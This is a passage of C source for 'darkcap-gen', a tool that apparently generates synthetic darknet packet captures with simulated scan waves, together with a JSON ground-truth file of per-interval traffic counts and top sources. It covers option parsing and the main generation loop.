    if (y < 1970 || y > 2099 || mo < 1 || mo > 12 || d < 1 || d > mdays[mo - 1] || h > 23 || mi > 59 || se > 59)
        return false;
    bool leap = (y % 4 == 0 && y % 100 != 0) || y % 400 == 0;
    if (mo == 2 && d == 29 && !leap) return false;
    *out = days_from_civil(y, (unsigned)mo, (unsigned)d) * 86400 + h * 3600 + mi * 60 + se;
    return true;
}

static void add_outs(cfg_t *c, const char *list)
{
    const char *p = list;
    if (!*p) die_usage("--out: empty file name");
    for (;;) {
        const char *comma = strchr(p, ',');
        size_t l = comma ? (size_t)(comma - p) : strlen(p);
        if (l == 0) die_usage("--out: empty file name in '%s'", list);
        if (c->nout >= MAX_FILES) die_usage("--out: too many output files (max %d)", MAX_FILES);
        char *s = malloc(l + 1);
        if (!s) die_io("out of memory");
        memcpy(s, p, l);
        s[l] = 0;
        for (int i = 0; i < c->nout; i++)
            if (!strcmp(c->outs[i], s)) die_usage("--out: file '%s' given twice", s);
        c->outs[c->nout++] = s;
        if (!comma) break;
        p = comma + 1;
    }
}

static void parse_args(int argc, char **argv, cfg_t *c)
{
    enum { O_OUT = 1000, O_TRUTH, O_SEED, O_START, O_DAYS, O_PACKETS, O_INTERVAL, O_SPLIT, O_NOEDGE, O_TOP,
           O_MANY, O_DETAIL, O_NOJUMBO, O_PAYSHARE, O_HELP };
    static const struct option lo[] = {
        {"out", required_argument, NULL, O_OUT},
        {"truth", required_argument, NULL, O_TRUTH},
        {"seed", required_argument, NULL, O_SEED},
        {"start", required_argument, NULL, O_START},
        {"days", required_argument, NULL, O_DAYS},
        {"packets", required_argument, NULL, O_PACKETS},
        {"interval", required_argument, NULL, O_INTERVAL},
        {"split", required_argument, NULL, O_SPLIT},
        {"no-edge", no_argument, NULL, O_NOEDGE},
        {"top", required_argument, NULL, O_TOP},
        {"many-sources", no_argument, NULL, O_MANY},
        {"source-detail", no_argument, NULL, O_DETAIL},
        {"no-jumbo", no_argument, NULL, O_NOJUMBO},
        {"payload-share", required_argument, NULL, O_PAYSHARE},
        {"help", no_argument, NULL, O_HELP},
        {NULL, 0, NULL, 0},
    };
    memset(c, 0, sizeof(*c));
    c->seed = 1;
    c->days = 1.0;
    c->packets = 100000;
    c->interval = 60;
    c->top = 100;
    c->start = 1648771200;   /* 2022-04-01T00:00:00Z */
    c->payload_share = PAYLOAD_SHARE;
    opterr = 0;
    for (;;) {
        int prev = optind;
        int o = getopt_long(argc, argv, ":h", lo, NULL);
        if (o == -1) break;
        const char *a = optarg;
        const char *cur = (prev < argc) ? argv[prev] : "?";
        switch (o) {
        case O_OUT: add_outs(c, a); break;
        case O_TRUTH:
            if (!*a) die_usage("--truth: empty file name");
            c->truth = a;
            break;
        case O_SEED:
            if (!parse_u64(a, &c->seed)) die_usage("--seed: invalid number '%s'", a);
            break;
        case O_START:
            if (!parse_time(a, &c->start)) die_usage("--start: invalid time '%s' (want YYYY-MM-DDTHH:MM:SSZ, 1970..2099)", a);
            break;
        case O_DAYS: {
            char *end;
            errno = 0;
            double d = strtod(a, &end);
            if (errno || end == a || *end || !(d > 0) || d > MAX_DAYS || isnan(d))
                die_usage("--days: invalid value '%s' (want a number > 0 and <= %g)", a, MAX_DAYS);
            c->days = d;
            break;
        }
        case O_PACKETS:
            if (!parse_u64(a, &c->packets) || c->packets > 10000000000ull)
                die_usage("--packets: invalid count '%s' (want 0..10000000000)", a);
            break;
        case O_INTERVAL:
            if (!parse_u64(a, &c->interval) || c->interval < 1 || c->interval > 366ull * 86400)
                die_usage("--interval: invalid value '%s' (want whole seconds, 1..31622400)", a);
            break;
        case O_SPLIT:
            if (!strcmp(a, "rr")) c->split_rr = true;
            else if (!strcmp(a, "src")) c->split_rr = false;
            else die_usage("--split: invalid value '%s' (want rr or src)", a);
            break;
        case O_NOEDGE: c->no_edge = true; break;
        case O_TOP: {
            uint64_t v;
            if (!parse_u64(a, &v) || v > 100000) die_usage("--top: invalid count '%s' (want 0..100000)", a);
            c->top = (uint32_t)v;
            break;
        }
        case O_MANY: c->many_sources = true; break;
        case O_DETAIL: c->source_detail = true; break;
        case O_NOJUMBO: c->no_jumbo = true; break;
        case O_PAYSHARE: {
            char *end;
            errno = 0;
            double d = strtod(a, &end);
            if (errno || end == a || *end || isnan(d) || d < 0 || d > 1)
                die_usage("--payload-share: invalid value '%s' (want a number from 0 to 1)", a);
            c->payload_share = d;
            break;
        }
        case 'h':
        case O_HELP:
            fputs(usage_text, stdout);
            exit(0);
        case ':':
            die_usage("option '%s' requires an argument", cur);
        case '?':
        default:
            if (optopt && optopt != '?' && optopt < 256 && optopt != 0)
                die_usage("unknown option '-%c'", optopt);
            if (optopt)
                die_usage("option '%.*s' does not take an argument", (int)strcspn(cur, "="), cur);
            die_usage("unknown or ambiguous option '%s'", cur);
        }
    }
    if (optind < argc) die_usage("unexpected argument '%s'", argv[optind]);
    if (!c->nout) die_usage("missing --out");
    if (!c->truth) die_usage("missing --truth");
    for (int i = 0; i < c->nout; i++)
        if (!strcmp(c->outs[i], c->truth)) die_usage("--truth: '%s' is also an --out file", c->truth);
    double span = c->days * 86400e6;
    if (span < 1) die_usage("--days: duration shorter than a microsecond");
    if ((double)c->start + c->days * 86400.0 >= 4294967296.0)
        die_usage("--start/--days: end of run is beyond 2106 (pcap seconds overflow)");
}

/* ------------------------------------------------------------------------ */

static double now_s(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec * 1e-9;
}

static gen_t G;
static frame_t FR;

int main(int argc, char **argv)
{
    cfg_t cfg;
    parse_args(argc, argv, &cfg);
    double t_begin = now_s();

    /* generator */
    gen_t *g = &G;
    rng_seed(&g->r, cfg.seed, 1);
    g->pool.seed_src = mix64(cfg.seed ^ 0x5eed5eed5eedull);
    uint64_t ns = cfg.packets / 20;
    if (ns < 3000) ns = 3000;
    if (ns > 4000000) ns = 4000000;
    g->pool.nsrc = (uint32_t)ns;
    g->pool.nsrc6 = (uint32_t)(ns / 20 < 200 ? 200 : ns / 20);
    if (cfg.many_sources) {
        ns = cfg.packets < 3000 ? 3000 : cfg.packets > 16000000 ? 16000000 : cfg.packets;
        g->pool.nsrc = g->pool.nsrc6 = (uint32_t)ns;
        g->pool.uniform = true;
    }
    g->edge = !cfg.no_edge;
    g->no_jumbo = cfg.no_jumbo;
    g->payload_share = cfg.payload_share;

    /* time shape */
    uint64_t start_us = (uint64_t)cfg.start * 1000000ull;
    uint64_t span_us = (uint64_t)llround(cfg.days * 86400e6);
    shape_t sh;
    shape_init(&sh, cfg.seed, start_us, span_us, g->pool.nsrc);
    rng_t rt;
    rng_seed(&rt, cfg.seed, 3);
    rng_t rw;                       /* ports of sweeping waves only: the other streams stay put */
    rng_seed(&rw, cfg.seed, 4);

    /* outputs */
    pcapw_t pw[MAX_FILES];
    size_t bufcap = (size_t)(8u << 20) / (size_t)cfg.nout;
    if (bufcap < (256u << 10)) bufcap = 256u << 10;
    for (int i = 0; i < cfg.nout; i++) pw_open(&pw[i], cfg.outs[i], bufcap);
    FILE *tf = fopen(cfg.truth, "w");
    if (!tf) die_io("cannot open %s: %s", cfg.truth, strerror(errno));
    static char tbuf[1 << 20];
    setvbuf(tf, tbuf, _IOFBF, sizeof(tbuf));

    cnt_t iv, tot;
    cnt_init(&iv, true);
    cnt_init(&tot, false);
    uq_t uq;
    uq_init(&uq);
    uq.detail = cfg.source_detail;
    static sigt_t sg;
    sigt_init(&sg);
    uint64_t cur_iv = 0, first_iv = 0, nintervals = 0;
    bool have_iv = false;

    /* pass 1: total weight */
    double wc[9];
    const wave_t *wv[9];
    int nwc;
    double base;
    double W = 0;
    for (uint64_t b = 0; b < sh.nbins; b++) W += bin_weight(&sh, b, &base, wc, wv, &nwc);

    uint64_t emitted = 0, last_ts = 0, rr = 0;
    double cum = 0;
    for (uint64_t b = 0; b < sh.nbins && emitted < cfg.packets; b++) {
        double w = bin_weight(&sh, b, &base, wc, wv, &nwc);
        cum += w;
        uint64_t target = b + 1 == sh.nbins ? cfg.packets : (uint64_t)llround((double)cfg.packets * (cum / W));
        if (target > cfg.packets) target = cfg.packets;
        if (target <= emitted) continue;
        uint64_t k = target - emitted;
        uint64_t bstart = start_us + b * BIN_US;
        uint64_t width = (b + 1) * BIN_US > span_us ? span_us - b * BIN_US : BIN_US;
        double wavesum = 0;
        for (int i = 0; i < nwc; i++) wavesum += wc[i];
        double pwave = wavesum / (base + wavesum);
        double t = 0;
        for (uint64_t i = 0; i < k; i++) {
            double u = r01open(&rt);
            t += ((double)width - t) * -expm1(log(u) / (double)(k - i));
            uint64_t off = (uint64_t)t;
            if (off >= width) off = width - 1;
            uint64_t ts = bstart + off;
            if (ts < last_ts) ts = last_ts;
            last_ts = ts;

            /* scan wave packet? */
            const src_t *wsrc = NULL;
            src_t ws;
            int wport = -1;
            if (nwc && r01(&rt) < pwave) {
                double x = r01(&rt) * wavesum;
                int j = 0;
                while (j + 1 < nwc && x >= wc[j]) { x -= wc[j]; j++; }
                src_get(&g->pool, g->pool.uniform ? rbelow(&g->r, g->pool.nsrc) : wv[j]->src_idx, &ws);
                if (ws.fam == F_MIRAI) ws.fam = F_ORD;   /* mirai picks its own ports */
                wsrc = &ws;
                wport = wv[j]->sweep ? (int)port_from(&rw, WPICK(&rw, ord_ports)) : wv[j]->port;
            }
            expect_t ex;
            gen_packet(g, &FR, &ex, wsrc, wport);
            uqkey_t uk;
            uq_prep(&uq, &ex, &uk);
            if (FR.wire < FR.len) FR.wire = FR.len;
            CHECK(FR.len <= MAX_FRAME);

            /* truth */
            uint64_t ivs = ts / 1000000 / cfg.interval * cfg.interval;
            if (!have_iv || ivs != cur_iv) {
                if (have_iv) {
                    fputc('{', tf);
                    put_counts(tf, &iv, cur_iv, cur_iv + cfg.interval);
                    uq_put_interval(tf, &uq, cfg.top);
                    sig_put(tf, &sg, false);
                    fputs("}\n", tf);
                    cnt_reset(&iv);
                } else {
                    first_iv = ivs;
                }
                have_iv = true;
                cur_iv = ivs;
                nintervals++;
            }
            cnt_add(&iv, &ex, (uint32_t)FR.len);
            cnt_add(&tot, &ex, (uint32_t)FR.len);
            sig_add(&sg, &ex);

            /* output */
            int fi = cfg.split_rr ? (int)(rr++ % (uint64_t)cfg.nout) : (int)(FR.key % (uint32_t)cfg.nout);
            pw_write(&pw[fi], ts, FR.b, FR.len, FR.wire);
            uq_add(&uq, &ex, &uk, (uint32_t)FR.len, ts);    /* late: uq_prep's prefetches have landed */
            emitted++;
        }
    }
    CHECK(emitted == cfg.packets);
    if (have_iv) {
        fputc('{', tf);
        put_counts(tf, &iv, cur_iv, cur_iv + cfg.interval);
        uq_put_interval(tf, &uq, cfg.top);
        sig_put(tf, &sg, false);
        fputs("}\n", tf);
    } else {
        first_iv = cur_iv = (uint64_t)cfg.start / cfg.interval * cfg.interval;
    }
    fputs("{\"total\":true,", tf);
    put_counts(tf, &tot, first_iv, have_iv ? cur_iv + cfg.interval : first_iv);
    uq_put_total(tf, &uq);
    sig_put(tf, &sg, true);
    fputs(",\"files\":[", tf);
    for (int i = 0; i < cfg.nout; i++) {
        pw_close(&pw[i]);
        fputs(i ? ",{\"path\":\"" : "{\"path\":\"", tf);
        for (const char *p = cfg.outs[i]; *p; p++) {
            unsigned char ch = (unsigned char)*p;
            if (ch == '"' || ch == '\\') fprintf(tf, "\\%c", ch);
            else if (ch < 0x20) fprintf(tf, "\\u%04x", ch);
            else fputc(ch, tf);
        }
        fprintf(tf, "\",\"packets\":%llu,\"bytes\":%llu}", (unsigned long long)pw[i].packets,
                (unsigned long long)pw[i].bytes);
    }
    fputs("]}\n", tf);
    if (fflush(tf) != 0 || ferror(tf)) die_io("write %s: %s", cfg.truth, strerror(errno));
    if (fclose(tf) != 0) die_io("close %s: %s", cfg.truth, strerror(errno));

    if (getenv("DARKCAP_GEN_DEBUG")) {
        for (int k = 0; k < E_COUNT; k++)
            fprintf(stderr, "edge %-28s %llu\n", edge_tab[k].name, (unsigned long long)g->kind_count[k]);
        fprintf(stderr, "payload share: %llu cut by the capture, %llu with a short IP length\n",
                (unsigned long long)g->pay_cut, (unsigned long long)g->pay_short);
    }
    printf("darkcap-gen: %llu packets, %d files, %llu intervals, %.2f s\n", (unsigned long long)emitted,
           cfg.nout, (unsigned long long)(have_iv ? nintervals : 0), now_s() - t_begin);
    cnt_free(&iv);
    cnt_free(&tot);
    uq_free(&uq);
    sigt_free(&sg);
    free(sh.dayf);
    free(sh.nw);
    free(sh.waves);
    for (int i = 0; i < cfg.nout; i++)
        free((void *)cfg.outs[i]);
    return 0;
}
